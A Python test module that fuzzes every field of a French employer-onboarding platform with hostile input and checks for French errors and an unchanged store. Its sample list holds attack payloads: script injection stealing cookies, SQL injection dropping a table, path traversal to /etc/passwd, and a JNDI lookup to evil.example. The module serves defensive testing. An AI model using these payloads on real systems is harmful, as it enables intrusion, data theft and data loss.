"""Hostile input at every typed field of every use case (rules C4, E1, A3, N1, A4, A6).

Each field in turn gets any text, control characters, lone surrogates, 10,000
characters, markup, SQL, format strings, bidi overrides, zero-width characters, emoji,
blanks, near-valid values and non-text values, while every other field stays valid.
The use case either accepts the value (only when the value object accepts it) or
raises an :class:`OnboardingError`; for a form field, a :class:`ValidationError` that
names that field in French. After any error the store is exactly as before.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from attrs import evolve, frozen
from hypothesis import example, given, note, settings
from hypothesis import strategies as st

from peps_onboarding import (
    FMIS_ALLOCATIONS,
    FMIS_REFUNDS,
    AccessLevel,
    Account,
    ClassicRegistration,
    ContractNumber,
    DomainEvent,
    EmailAddress,
    Enrolment,
    EstablishmentIdentification,
    FixedPhone,
    Identifier,
    IdentifierRecovery,
    InMemoryDatabase,
    Link,
    NetEntreprisesCompletion,
    NetEntreprisesCredentials,
    NetEntreprisesSignedIn,
    OnboardingError,
    OutboxMessage,
    PasswordResetRequested,
    PersonName,
    PostalCode,
    Siret,
    TextLine,
    ValidationError,
)
from peps_onboarding.domain.events import AccountBlocked, LoginFailed
from peps_onboarding.domain.links import normalise_code
from peps_onboarding.domain.values import Civility, InvalidFieldError, parse_city
from peps_onboarding.testing import COMMUNE, COMMUNE_CONTRACT, PASSWORD, Journey
from peps_onboarding.testing.journeys import holder_form, net_entreprises_form

# --- hostile values ----------------------------------------------------------------------

HOSTILE_SAMPLES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.cookie)>',
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "{0.__class__}",
    "{0.__init__.__globals__}",
    "%s%n%x%d",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "\u202eexe.fdp",  # right-to-left override
    "\u2066abc\u2069",  # isolates
    "Jean\u200bne",  # zero-width space
    "\u200d",
    "\ufeff",
    "😀🇫🇷👩‍👩‍👧",
    "",
    " ",
    "\t\n\r  ",
    "\u00a0\u2003\u3000",
    "\x00",
    "abc\x00def",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\ud800",
    "a\udfffb",
    "A" * 10_000,
    "1" * 10_000,
    "é" * 10_000,
    " " * 10_000 + "x",
    "\x00" * 10_000,
)
NON_TEXT: tuple[object, ...] = (None, 0, 1, -1, 10**30, True, False, b"", b"abc", b"\xff\xfe")

# Each family drawn as often as the others (mapped strategies are not merged by size):
# C0/C1 controls, format characters (bidi, zero-width), lone surrogates, Unicode spaces
# and separators, combining marks, private use and symbols (emoji), markup.
_HOSTILE_CHARACTERS = st.one_of(
    st.integers(0, 0x1F).map(chr),
    st.integers(0x7F, 0x9F).map(chr),
    st.sampled_from(
        "\u00ad\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202d\u202e\u2060\u2066\u2069\ufeff"
    ),
    st.integers(0xD800, 0xDFFF).map(chr),
    st.sampled_from(" \u00a0\u1680\u2003\u2028\u2029\u202f\u205f\u3000"),
    st.characters(categories=["Mn"]),
    st.characters(categories=["Co", "So"]),
    st.sampled_from("<>\"'%{}$;\\/.@&#"),
    # Rule E1: digits of other scripts, which int() and phonenumbers read as ASCII.
    st.characters(categories=["Nd"]).filter(lambda c: not c.isascii()),
    st.sampled_from("０３٣۳३²³¹"),
)
_BLANKS = st.text(alphabet=" \t\n\r\u00a0\u2003\u3000", max_size=3)
_PIECES = st.one_of(
    st.just(""),
    st.sampled_from(HOSTILE_SAMPLES[:20]),
    st.text(alphabet=_HOSTILE_CHARACTERS, min_size=1, max_size=3),
    st.text(max_size=3),
)


@frozen
class Mutation:
    """A near-valid value: the field's valid value with blanks around and a piece inside."""

    prefix: str
    piece: str
    position: float
    suffix: str

    def apply(self, valid: str) -> str:
        at = int(self.position * len(valid))
        return f"{self.prefix}{valid[:at]}{self.piece}{valid[at:]}{self.suffix}"


_NEAR_VALID = st.builds(Mutation, _BLANKS, _PIECES, st.floats(0, 1), _BLANKS)
HOSTILE: st.SearchStrategy[object] = st.one_of(
    st.sampled_from(HOSTILE_SAMPLES),
    st.one_of(st.sampled_from(NON_TEXT), st.integers(), st.binary(max_size=16)),
    st.text(),
    st.text(alphabet=_HOSTILE_CHARACTERS, min_size=1),
    st.text(alphabet=st.one_of(st.characters(codec="ascii"), _HOSTILE_CHARACTERS), min_size=1),
    st.text(min_size=1, max_size=4).map(lambda s: (s * 10_000)[:10_000]),
    _NEAR_VALID,  # near-valid values find the most: drawn three times as often
    _NEAR_VALID,
    _NEAR_VALID,
)
HOSTILE_BOOLEANS: st.SearchStrategy[object] = st.one_of(
    st.booleans(),
    st.sampled_from((*NON_TEXT, "true", "True", "on", "oui", "1", "")),
    st.integers(),
    st.text(max_size=8),
)

# --- fields ---------------------------------------------------------------------------

Valid = Callable[[object, Any], bool]  # (value, the valid command) -> is the value valid?


@frozen
class Field:
    """One typed input: where it sits in the command and which error key reports it."""

    key: str | None  # the French key of its field error; None: no form error exists for it
    paths: tuple[tuple[str, ...], ...]  # every place the value goes (courriel + confirmation)
    valid: Valid
    also: frozenset[str] = frozenset()  # other keys the same wrong value may also raise


def get(obj: Any, path: tuple[str, ...]) -> Any:
    for name in path:
        obj = getattr(obj, name)
    return obj


def put(obj: Any, path: tuple[str, ...], value: object) -> Any:
    head, *rest = path
    inner = put(getattr(obj, head), tuple(rest), value) if rest else value
    return evolve(obj, **{head: inner})


def parses(parse: Callable[[object], object]) -> Valid:
    def valid(value: object, _: Any) -> bool:
        try:
            parse(value)
        except InvalidFieldError:
            return False
        return True

    return valid


def equals_baseline(path: tuple[str, ...]) -> Valid:
    """Secrets (tokens, tickets, passwords): only the very value is right."""
    return lambda value, base: isinstance(value, str) and value == get(base, path)


def _email(raw: object) -> EmailAddress:
    # The in-memory platform's settings: test domains, and a relay without SMTPUTF8 (M1).
    return EmailAddress.parse(raw, test_environment=True, smtputf8=False)


def _compared_email(raw: object) -> EmailAddress:
    # A6 only compares the address with the account's and writes nothing to it: any
    # address is taken, even one the relay could not deliver to.
    return EmailAddress.parse(raw, test_environment=True)


def confirms_email(email_path: tuple[str, ...]) -> Valid:
    def valid(value: object, base: Any) -> bool:
        if not parses(_email)(value, base):
            return False
        return _email(value).same_as(_email(get(base, email_path)))

    return valid


def a3_password(value: object, _: Any) -> bool:
    """Rule A3, restated: 8 to 128 printable characters with 1 digit, lower, upper, special."""
    if not isinstance(value, str):
        return False
    return (
        8 <= len(value) <= 128
        and value.isprintable()
        and any(c.isdigit() for c in value)
        and any(c.islower() for c in value)
        and any(c.isupper() for c in value)
        and any(not c.isalnum() and not c.isspace() for c in value)
    )


def filled(value: object, _: Any) -> bool:
    return isinstance(value, str) and bool(value.strip())


def net_entreprises_password(value: object, _: Any) -> bool:
    """Any text UTF-8 can carry to Net-Entreprises (a lone surrogate cannot), 1–256 long."""
    if not isinstance(value, str) or not 0 < len(value) <= 256:
        return False
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def same_identifier(path: tuple[str, ...]) -> Valid:
    def valid(value: object, base: Any) -> bool:
        try:
            return Identifier.parse(value) == Identifier.parse(get(base, path))
        except InvalidFieldError:
            return False

    return valid


def holder_fields(prefix: tuple[str, ...], *, names: bool = True) -> list[Any]:
    """Every field of the C4 form (HolderForm, or NetEntreprisesForm without the names)."""
    address = (*prefix, "address")
    email, confirmation = (*prefix, "email"), (*prefix, "email_confirmation")
    fields = [
        ("civilite", (*prefix, "civility"), parses(Civility.parse)),
        ("telephone", (*prefix, "phone"), parses(FixedPhone.parse)),
        (
            "service_fonction",
            (*prefix, "service_function"),
            parses(lambda raw: TextLine.parse(raw, max_length=100)),
        ),
        ("voie", (*address, "street"), parses(TextLine.parse)),
        ("code_postal", (*address, "postal_code"), parses(PostalCode.parse)),
        ("ville", (*address, "city"), parses(parse_city)),
        ("complement_adresse", (*address, "address_complement"), parses(TextLine.parse_optional)),
        (
            "complement_identification",
            (*address, "identification_complement"),
            parses(TextLine.parse_optional),
        ),
        ("lieu_dit", (*address, "locality"), parses(TextLine.parse_optional)),
    ]
    if names:
        fields[1:1] = [
            ("nom", (*prefix, "last_name"), parses(PersonName.parse)),
            ("prenom", (*prefix, "first_name"), parses(PersonName.parse)),
        ]
    params = [pytest.param(Field(key, (path,), valid), id=key) for key, path, valid in fields]
    params += [
        pytest.param(
            Field(
                "courriel",
                (email, confirmation),
                parses(_email),
                frozenset({"confirmation_courriel"}),
            ),
            id="courriel",
        ),
        pytest.param(
            Field("confirmation_courriel", (confirmation,), confirms_email(email)),
            id="confirmation_courriel",
        ),
    ]
    return params


def siret_field(path: tuple[str, ...]) -> Any:
    return pytest.param(
        Field("siret", (path,), parses(Siret.parse)), id="siret", marks=pytest.mark.rule("E1")
    )


def password_fields() -> list[Any]:
    return [
        pytest.param(Field(None, (("token",),), equals_baseline(("token",))), id="jeton"),
        pytest.param(
            Field(
                "mot_de_passe",
                (("password",), ("confirmation",)),
                a3_password,
                frozenset({"confirmation_mot_de_passe"}),
            ),
            id="mot_de_passe",
        ),
        pytest.param(
            Field(
                "confirmation_mot_de_passe", (("confirmation",),), equals_baseline(("password",))
            ),
            id="confirmation_mot_de_passe",
        ),
    ]


# --- the check ------------------------------------------------------------------------


@frozen
class Snapshot:
    """Everything a use case may store, committed state only."""

    enrolments: Mapping[Siret, Enrolment]
    accounts: Mapping[Identifier, Account]
    links: Mapping[str, Link]
    events: tuple[DomainEvent, ...]
    outbox: Mapping[str, OutboxMessage]
    commits: int

    @classmethod
    def of(cls, db: InMemoryDatabase) -> Snapshot:
        return cls(
            enrolments=dict(db.enrolments),
            accounts=dict(db.accounts),
            links=dict(db.links),
            events=tuple(db.events),
            outbox=dict(db.outbox),
            commits=db.commits,
        )


_FRENCH = re.compile(
    r"[éèêàçùôî«]|\b(?:le|la|les|de|du|des|ce|cet|cette|ces|doit|est|sont|un|une|pas|ne|"
    r"nous|vous|votre|veuillez|ou|et|champ|champs|certains)\b",
    re.IGNORECASE,
)


def assert_french(message: str) -> None:
    assert isinstance(message, str) and message.strip(), message
    assert _FRENCH.search(message), f"not French: {message!r}"
    # Messages never echo markup back (a host may render them unescaped by mistake).
    assert not set(message) & set("<>{}"), message


def concrete(value: object, field: Field, base: Any) -> object:
    if isinstance(value, Mutation):
        value = value.apply(str(get(base, field.paths[0])))
    note(f"value = {value!r}")
    return value


def attempt(
    journey: Journey, base: Any, field: Field, value: object, act: Callable[[Any], object]
) -> None:
    """Runs ``act`` on ``base`` with ``value`` at the field; checks the outcome and the store."""
    command = base
    for path in field.paths:
        command = put(command, path, value)
    valid = field.valid(value, base)
    db = journey.world.database
    before = Snapshot.of(db)
    raised: OnboardingError | None = None
    try:
        act(command)
    except OnboardingError as error:  # anything else propagates: a crash fails the test
        raised = error
    if raised is None:
        assert valid, "an invalid value was accepted"
    elif isinstance(raised, ValidationError):
        fields = dict(raised.fields)
        assert field.key is not None, f"a valid form was refused: {fields}"
        assert not valid, f"a valid value was refused: {fields}"
        assert field.key in fields, fields
        assert set(fields) <= {field.key, *field.also}, fields
        for field_error in fields.values():
            assert_french(field_error.message)
        assert Snapshot.of(db) == before, "stored something after a field error"
    else:
        name = type(raised).__name__
        assert valid or field.key is None, f"{name} instead of a field error on {field.key}"
        assert_french(type(raised).message)
        assert Snapshot.of(db) == before, f"stored something after {name}"


EXAMPLES = (
    "<script>alert(1)</script>",
    "'; DROP TABLE accounts; --",
    "\ud800",
    "abc\x00def",
    "\u202eexe.fdp",
    "A" * 10_000,
    "   ",
    None,
    42,
    b"21330063500017",
)


def with_examples(test: Callable[..., None]) -> Callable[..., None]:
    for value in EXAMPLES:
        test = example(value=value)(test)
    return test


# --- classic path ---------------------------------------------------------------------

IDENTIFY_FIELDS = [
    siret_field(("siret",)),
    pytest.param(
        Field("numero_contrat", (("contract_number",),), parses(ContractNumber.parse)),
        id="numero_contrat",
    ),
    pytest.param(
        Field("controle_securite", (("captcha_response",),), filled), id="controle_securite"
    ),
]


@pytest.mark.rule("C1", "C4")
@pytest.mark.parametrize("field", IDENTIFY_FIELDS)
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
def test_identify_establishment_survives_hostile_input(field: Field, value: object) -> None:
    """Step 1 accepts only valid input, else a French error on that field; nothing stored."""
    journey = Journey.start()
    base = EstablishmentIdentification(
        siret=COMMUNE, contract_number=COMMUNE_CONTRACT, captcha_response="trombone"
    )
    value = concrete(value, field, base)
    attempt(journey, base, field, value, journey.platform.identify_establishment)


@frozen(kw_only=True)
class ProofInput:
    proof: Any


@frozen(kw_only=True)
class SiretInput:
    siret: Any


@pytest.mark.rule("C2", "C3", "R7", "C10")
@pytest.mark.parametrize("use_case", ["administrators", "resend_creation_link"])
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
def test_pair_lookups_survive_hostile_proofs(use_case: str, value: object) -> None:
    """The administrators' names and « Vous en envoyer un nouveau » act only on step 1's
    own proof: anything else is refused whole, and reveals or sends nothing."""
    journey = Journey.start()
    journey.register()
    base = ProofInput(proof=journey.proof())
    field = Field(None, (("proof",),), lambda v, b: v == b.proof)
    value = concrete(value, field, base)
    act = getattr(journey.platform, use_case)
    attempt(journey, base, field, value, lambda c: act(c.proof))


REGISTER_FIELDS = [
    # C10: a proof that is not step 1's own is refused as a whole, never as a field.
    pytest.param(Field(None, (("proof",),), lambda v, base: v == base.proof), id="proof"),
    *holder_fields(("holder",)),
]


@pytest.mark.rule("C4", "C5", "C10")
@pytest.mark.parametrize("field", REGISTER_FIELDS)
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
def test_register_survives_hostile_input(field: Field, value: object) -> None:
    """Steps 2-3 accept only valid input, else a French error on that field (or, for the
    step-1 proof, « Votre saisie a expiré… »); nothing stored."""
    journey = Journey.start()
    base = ClassicRegistration(proof=journey.proof(), holder=holder_form(), terms_accepted=True)
    value = concrete(value, field, base)
    attempt(journey, base, field, value, journey.platform.register)


@pytest.mark.rule("C4")
@settings(max_examples=100)
@given(value=HOSTILE_BOOLEANS)
@example(value="true")
@example(value=1)
@example(value=None)
def test_register_accepts_terms_only_as_true(value: object) -> None:
    """Only ``True`` accepts the CGU; anything else is a French error on ``cgu``."""
    journey = Journey.start()
    base = ClassicRegistration(proof=journey.proof(), holder=holder_form(), terms_accepted=True)
    field = Field("cgu", (("terms_accepted",),), lambda v, _: v is True)
    attempt(journey, base, field, value, journey.platform.register)


@frozen(kw_only=True)
class PasswordInput:
    token: Any
    password: Any
    confirmation: Any


@pytest.mark.rule("A3", "A8", "C7")
@pytest.mark.parametrize("field", password_fields())
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
@example(value=PASSWORD)
def test_create_password_survives_hostile_input(field: Field, value: object) -> None:
    """The creation link takes only its token and an A3 password, else a French error."""
    journey = Journey.start()
    journey.register()
    token = journey.last_token(holder_form().email)
    base = PasswordInput(token=token, password=PASSWORD, confirmation=PASSWORD)
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(
        journey,
        base,
        field,
        value,
        lambda c: platform.create_password(c.token, c.password, c.confirmation),
    )


@pytest.mark.rule("A3", "A5", "A8")
@pytest.mark.parametrize("field", password_fields())
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
def test_reset_password_survives_hostile_input(field: Field, value: object) -> None:
    """The reset link takes only its token and an A3 password, else a French error."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    journey.platform.request_password_reset(admin)
    token = journey.last_token(holder_form().email)
    base = PasswordInput(token=token, password="Nouveau-mot-2", confirmation="Nouveau-mot-2")
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(
        journey,
        base,
        field,
        value,
        lambda c: platform.reset_password(c.token, c.password, c.confirmation),
    )


@pytest.mark.rule("A3")
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
@example(value=PASSWORD)
def test_check_password_survives_hostile_input(value: object) -> None:
    """The live A3 check answers for anything typed: ``ok`` only for an A3 password."""
    platform = Journey.start().platform
    if isinstance(value, Mutation):
        value = value.apply(PASSWORD)
    note(f"value = {value!r}")
    for password, confirmation, valid in (
        (value, None, a3_password(value, None)),
        (PASSWORD, value, value is None or value == PASSWORD),
    ):
        try:
            check = platform.check_password(password, confirmation)  # type: ignore[arg-type]
        except OnboardingError as error:
            assert not valid
            assert_french(type(error).message)
        else:
            assert check.ok == valid, check.unmet
            assert_french(check.message)


@frozen(kw_only=True)
class CodeInput:
    code: Any


@pytest.mark.rule("C9")
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
def test_withdraw_registration_survives_hostile_codes(value: object) -> None:
    """A hostile withdrawal code is a French error and withdraws nothing."""
    journey = Journey.start()
    journey.register()
    base = CodeInput(code=journey.withdrawal_code_in_letter(COMMUNE))
    # P4: the code as typed from paper, case, spaces, hyphens and look-alikes forgiven.
    field = Field(None, (("code",),), lambda v, b: normalise_code(v) == normalise_code(b.code))
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(journey, base, field, value, lambda c: platform.withdraw_registration(c.code))


# --- Net-Entreprises path -------------------------------------------------------------

NE_CREDENTIALS = NetEntreprisesCredentials(
    siret=COMMUNE, last_name="Martin", first_name="Paul", password="ne-password"
)

SIGN_IN_FIELDS = [
    siret_field(("siret",)),
    pytest.param(Field("nom", (("last_name",),), parses(PersonName.parse)), id="nom"),
    pytest.param(Field("prenom", (("first_name",),), parses(PersonName.parse)), id="prenom"),
    pytest.param(
        Field("mot_de_passe", (("password",),), net_entreprises_password), id="mot_de_passe"
    ),
]


def net_entreprises_journey() -> Journey:
    journey = Journey.start()
    journey.world.net_entreprises.register(
        siret=COMMUNE, last_name="Martin", first_name="Paul", password="ne-password"
    )
    return journey


@pytest.mark.rule("N1")
@pytest.mark.parametrize("field", SIGN_IN_FIELDS)
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
def test_net_entreprises_sign_in_survives_hostile_input(field: Field, value: object) -> None:
    """The N-E sign-in accepts only valid input, else a French error; nothing stored."""
    journey = net_entreprises_journey()
    value = concrete(value, field, NE_CREDENTIALS)
    attempt(journey, NE_CREDENTIALS, field, value, journey.platform.sign_in_with_net_entreprises)


COMPLETE_FIELDS = [
    pytest.param(Field(None, (("ticket",),), equals_baseline(("ticket",))), id="ticket"),
    *holder_fields(("form",), names=False),
]


def net_entreprises_completion(journey: Journey) -> NetEntreprisesCompletion:
    signed = journey.platform.sign_in_with_net_entreprises(NE_CREDENTIALS)
    assert isinstance(signed, NetEntreprisesSignedIn)
    return NetEntreprisesCompletion(ticket=signed.ticket, form=net_entreprises_form())


@pytest.mark.rule("N1", "N3", "N4", "C4")
@pytest.mark.parametrize("field", COMPLETE_FIELDS)
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
@example(value="bm90LWEtdGlja2V0.é")  # a non-ASCII signature
@example(value=b"abc.def")
def test_complete_net_entreprises_survives_hostile_input(field: Field, value: object) -> None:
    """The N-E form accepts only valid input and its own ticket, else a French error."""
    journey = net_entreprises_journey()
    base = net_entreprises_completion(journey)
    value = concrete(value, field, base)
    attempt(journey, base, field, value, journey.platform.complete_net_entreprises)


@pytest.mark.rule("N4", "C4")
@settings(max_examples=60)
@given(value=HOSTILE_BOOLEANS)
def test_complete_net_entreprises_accepts_terms_only_as_true(value: object) -> None:
    """Only ``True`` accepts the CGU on the N-E form; anything else is an error on ``cgu``."""
    journey = net_entreprises_journey()
    base = net_entreprises_completion(journey)
    field = Field("cgu", (("form", "terms_accepted"),), lambda v, _: v is True)
    attempt(journey, base, field, value, journey.platform.complete_net_entreprises)


# --- authentication -------------------------------------------------------------------


@frozen(kw_only=True)
class LoginInput:
    identifier: Any
    password: Any


@pytest.mark.rule("A4")
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
def test_login_survives_hostile_identifiers(value: object) -> None:
    """A hostile identifier gets the generic credentials error and stores nothing."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    base = LoginInput(identifier=admin, password=PASSWORD)
    field = Field(None, (("identifier",),), same_identifier(("identifier",)))
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(journey, base, field, value, lambda c: platform.login(c.identifier, c.password))


@pytest.mark.rule("A4")
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
@example(value="Motdepasse-1\ud800")
def test_login_survives_hostile_passwords(value: object) -> None:
    """A hostile password is a wrong password: only the failure count (A4) is stored."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    if isinstance(value, Mutation):
        value = value.apply(PASSWORD)
    note(f"value = {value!r}")
    db = journey.world.database
    before = Snapshot.of(db)
    try:
        journey.platform.login(admin, value)  # type: ignore[arg-type]
    except OnboardingError as error:  # anything else propagates: a crash fails the test
        assert_french(type(error).message)
        refused = True
    else:
        refused = False
    assert refused == (value != PASSWORD)
    if refused:
        after = Snapshot.of(db)
        assert (after.enrolments, after.links, after.outbox) == (
            before.enrolments,
            before.links,
            before.outbox,
        )
        assert after.accounts.keys() == before.accounts.keys()
        assert after.events[: len(before.events)] == before.events
        new_events = after.events[len(before.events) :]
        assert all(isinstance(e, LoginFailed | AccountBlocked) for e in new_events)


@pytest.mark.rule("A5")
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
def test_password_reset_request_survives_hostile_identifiers(value: object) -> None:
    """Any identifier gets the same answer; only the real one's account gets a link."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    base = LoginInput(identifier=admin, password=None)
    if isinstance(value, Mutation):
        value = value.apply(admin)
    note(f"value = {value!r}")
    db = journey.world.database
    before = Snapshot.of(db)
    result = journey.platform.request_password_reset(value)  # type: ignore[arg-type]
    assert isinstance(result, PasswordResetRequested)
    if not same_identifier(("identifier",))(value, base):
        assert Snapshot.of(db) == before


RECOVERY = IdentifierRecovery(
    siret=COMMUNE, last_name="Dupont", first_name="Jeanne", email="jeanne.dupont@employeur.example"
)
RECOVERY_FIELDS = [
    siret_field(("siret",)),
    pytest.param(Field("nom", (("last_name",),), parses(PersonName.parse)), id="nom"),
    pytest.param(Field("prenom", (("first_name",),), parses(PersonName.parse)), id="prenom"),
    pytest.param(Field("courriel", (("email",),), parses(_compared_email)), id="courriel"),
]


@pytest.mark.rule("A6")
@pytest.mark.parametrize("field", RECOVERY_FIELDS)
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
def test_recover_identifier_survives_hostile_input(field: Field, value: object) -> None:
    """Identifier recovery accepts only valid input, else a French error; nothing stored."""
    journey = Journey.start()
    journey.enrolled_administrator()
    value = concrete(value, field, RECOVERY)
    attempt(journey, RECOVERY, field, value, journey.platform.recover_identifier)


# --- administration -------------------------------------------------------------------


@frozen(kw_only=True)
class CreateUserInput:
    actor: Any
    holder: Any


@pytest.mark.rule("R5", "C4")
@pytest.mark.parametrize("field", holder_fields(("holder",)))
@settings(max_examples=50)
@given(value=HOSTILE)
@with_examples
def test_create_user_survives_hostile_input(field: Field, value: object) -> None:
    """« Créer un compte » accepts only a valid form, else a French error; nothing stored."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    base = CreateUserInput(actor=admin, holder=holder_form("Luc", "Moreau"))
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(journey, base, field, value, lambda c: platform.create_user(c.actor, c.holder))


@frozen(kw_only=True)
class RightInput:
    actor: Any
    target: Any
    service: Any


SERVICE_CODES = frozenset({FMIS_ALLOCATIONS.code, FMIS_REFUNDS.code})
RIGHT_FIELDS = [
    pytest.param(
        Field("service", (("service",),), lambda v, _: isinstance(v, str) and v in SERVICE_CODES),
        id="service",
    ),
    pytest.param(Field(None, (("actor",),), same_identifier(("actor",))), id="actor"),
    pytest.param(Field(None, (("target",),), same_identifier(("target",))), id="target"),
]


@pytest.mark.rule("R3", "R5", "R6")
@pytest.mark.parametrize("field", RIGHT_FIELDS)
@settings(max_examples=100)
@given(value=HOSTILE)
@with_examples
@example(value=FMIS_REFUNDS.code)
def test_set_right_survives_hostile_input(field: Field, value: object) -> None:
    """A right is set only for a catalogue service between real accounts, else an error."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    user = journey.active_user(admin)
    base = RightInput(actor=admin, target=user, service=FMIS_ALLOCATIONS.code)
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(
        journey,
        base,
        field,
        value,
        lambda c: platform.set_right(c.actor, c.target, c.service, AccessLevel.READ_ONLY),
    )


@pytest.mark.rule("R5", "R6")
@pytest.mark.parametrize("field", RIGHT_FIELDS[1:])
@pytest.mark.parametrize("action", ["invalidate", "renew", "unblock", "promote", "demote"])
@settings(max_examples=40)
@given(value=HOSTILE)
@with_examples
def test_administrator_actions_survive_hostile_identifiers(
    action: str, field: Field, value: object
) -> None:
    """A hostile actor or target is refused with a French error and changes nothing."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    user = journey.active_user(admin)
    base = RightInput(actor=admin, target=user, service=None)
    value = concrete(value, field, base)
    act = getattr(journey.platform, action)
    attempt(journey, base, field, value, lambda c: act(c.actor, c.target))


@pytest.mark.rule("R5", "R6")
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
def test_list_members_survives_hostile_actors(value: object) -> None:
    """« Mes intervenants » for a hostile actor is a French error, never a crash."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    base = RightInput(actor=admin, target=None, service=None)
    field = Field(None, (("actor",),), same_identifier(("actor",)))
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(journey, base, field, value, lambda c: platform.list_members(c.actor))


@pytest.mark.rule("R8", "R6")
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
def test_establishment_members_survives_hostile_actors(value: object) -> None:
    """R8's « Mes intervenants », read by a hostile actor, is a French error, never a
    crash nor another establishment's members."""
    journey = Journey.start()
    admin = journey.enrolled_administrator()
    user = journey.active_user(admin)
    base = RightInput(actor=user, target=None, service=None)
    field = Field(None, (("actor",),), same_identifier(("actor",)))
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(journey, base, field, value, lambda c: platform.establishment_members(c.actor))


@pytest.mark.rule("L1", "E1")
@settings(max_examples=60)
@given(value=HOSTILE)
@with_examples
def test_history_survives_hostile_sirets(value: object) -> None:
    """The history of a hostile SIRET is a French error on ``siret``, never a crash."""
    journey = Journey.start()
    journey.register()
    base = SiretInput(siret=COMMUNE)
    field = Field("siret", (("siret",),), parses(Siret.parse))
    value = concrete(value, field, base)
    platform = journey.platform
    attempt(journey, base, field, value, lambda c: platform.history(c.siret))


# --- E1: look-alike digits in every numeric field ----------------------------------------

# Any digit of another script (Unicode « Nd »: fullwidth, Arabic-Indic, Devanagari…) and
# the superscripts that ``str.isdigit`` also takes: restated here, not the code's set.
LOOK_ALIKE_DIGITS = st.one_of(
    st.characters(categories=["Nd"]).filter(lambda c: not "0" <= c <= "9"),
    st.sampled_from("²³¹⁰⁴⁵"),
)


@st.composite
def with_look_alikes(draw: st.DrawFn, valid: str) -> str:
    """``valid`` with one or more of its ASCII digits written in another script."""
    positions = [i for i, c in enumerate(valid) if "0" <= c <= "9"]
    chosen = draw(st.sets(st.sampled_from(positions), min_size=1))
    chars = list(valid)
    for index in chosen:
        chars[index] = draw(LOOK_ALIKE_DIGITS)
    return "".join(chars)


def refused_on(journey: Journey, key: str, act: Callable[[], object]) -> None:
    """The use case refuses with a French error on ``key`` alone and stores nothing."""
    db = journey.world.database
    before = Snapshot.of(db)
    with pytest.raises(ValidationError) as error:
        act()
    assert set(error.value.fields) == {key}, error.value.fields
    assert_french(error.value.messages[key])
    assert "0 à 9" in error.value.messages[key]
    assert Snapshot.of(db) == before, "stored something after a field error"


@pytest.mark.rule("E1", "C1")
@pytest.mark.parametrize(
    ("key", "attribute", "valid"),
    [("siret", "siret", "213 300 635 00017"), ("numero_contrat", "contract_number", "FM330063")],
)
@settings(max_examples=60)
@given(data=st.data())
def test_step_one_refuses_look_alike_digits(
    key: str, attribute: str, valid: str, data: st.DataObject
) -> None:
    """A SIRET or contract number with any digit of another script is refused on its
    field, never read as the ASCII digit it resembles."""
    journey = Journey.start()
    typed = data.draw(with_look_alikes(valid))
    base = EstablishmentIdentification(
        siret=COMMUNE, contract_number=COMMUNE_CONTRACT, captcha_response="trombone"
    )
    command = evolve(base, **{attribute: typed})
    refused_on(journey, key, lambda: journey.platform.identify_establishment(command))


@pytest.mark.rule("E1", "C4")
@pytest.mark.parametrize(
    ("key", "path", "valid"),
    [
        ("code_postal", ("holder", "address", "postal_code"), "33160"),
        ("telephone", ("holder", "phone"), "05 56 11 41 23"),
        ("telephone", ("holder", "phone"), "+33 5 56 11 41 23"),
    ],
)
@settings(max_examples=60)
@given(data=st.data())
def test_the_form_refuses_look_alike_digits(
    key: str, path: tuple[str, ...], valid: str, data: st.DataObject
) -> None:
    """Code postal and téléphone with any digit of another script: refused on that
    field, nothing stored (phonenumbers alone would have read them as ASCII)."""
    journey = Journey.start()
    typed = data.draw(with_look_alikes(valid))
    base = ClassicRegistration(proof=journey.proof(), holder=holder_form(), terms_accepted=True)
    command = put(base, path, typed)
    refused_on(journey, key, lambda: journey.platform.register(command))
